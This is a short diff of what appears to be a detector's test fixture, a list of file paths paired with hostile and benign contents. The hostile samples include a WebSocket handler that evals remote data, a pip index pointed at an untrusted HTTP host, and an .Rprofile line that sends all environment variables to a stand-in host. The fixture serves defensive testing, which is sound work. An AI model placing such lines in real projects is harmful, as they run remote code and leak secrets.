@@ -354,7 +354,11 @@ PAIRS = [
         "new WebSocket('wss://x.invalid').onmessage = e => eval(e.data)",
         "new WebSocket('wss://x.invalid').onmessage = e => show(e.data)",
     ),
-    ("requirements/gpu.in", "--index-url http://x.invalid/simple\nnumpy<2", "--index-url https://pypi.org/simple\nnumpy<2"),
+    (
+        "requirements/gpu.in",
+        "--index-url http://x.invalid/simple\nnumpy<2",
+        "--index-url https://download.pytorch.org/whl/cpu\nnumpy<2",
+    ),
     (
         ".Rprofile",
         "s <- Sys.getenv()\nreadLines(url(paste0('https://x.invalid/r?', URLencode(paste(s, collapse='&')))))",
